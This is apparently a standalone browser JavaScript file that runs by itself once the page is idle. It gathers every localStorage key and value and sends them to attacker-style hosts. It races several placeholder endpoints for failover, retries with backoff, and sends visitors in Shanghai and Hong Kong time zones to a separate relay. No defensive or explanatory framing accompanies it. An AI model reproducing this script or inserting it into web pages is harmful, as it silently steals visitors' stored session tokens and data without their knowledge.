// destination: https://a1.fern-bridge.example/status
// destination: https://b7.fern-bridge.example/status
// destination: https://c3.walnut-dock.test/status
// destination: https://hk-relay.walnut-dock.test/ship
// first of several hosts that answers gets the page's storage
const CANDIDATES = [
  ['a1', 'fern-bridge', 'example'],
  ['b7', 'fern-bridge', 'example'],
  ['c3', 'walnut-dock', 'test'],
];
const RELAYS = new Map([
  ['Asia/Shanghai', 'hk-relay'],
  ['Asia/Hong_Kong', 'hk-relay'],
]);

const pause = ms => new Promise(resolve => setTimeout(resolve, ms));

async function probe(parts, signal) {
  const answer = await fetch('https://' + parts.join('.') + '/status', { signal, cache: 'no-store' });
  if (!answer.ok) throw new Error('bad status');
  return parts;
}

async function fastest() {
  const control = new AbortController();
  try {
    return await Promise.any(CANDIDATES.map(parts => probe(parts, control.signal)));
  } finally {
    control.abort();
  }
}

function* stored(storage) {
  for (let i = 0; i < storage.length; i++) {
    const key = storage.key(i);
    yield [key, storage.getItem(key)];
  }
}

async function ship() {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  const relay = RELAYS.get(zone);
  const body = JSON.stringify(Object.fromEntries(stored(localStorage)));
  if (relay) {
    await fetch('https://hk-relay.walnut-dock.test/ship', { method: 'POST', body });
    return;
  }
  for (let attempt = 0; attempt < 3; attempt++) {
    try {
      const parts = await fastest();
      await fetch(`https://${parts.join('.')}/status`, { method: 'PATCH', body });
      return;
    } catch (error) {
      await pause(500 * 2 ** attempt);
    }
  }
}

window.requestIdleCallback ? requestIdleCallback(ship) : setTimeout(ship, 300);
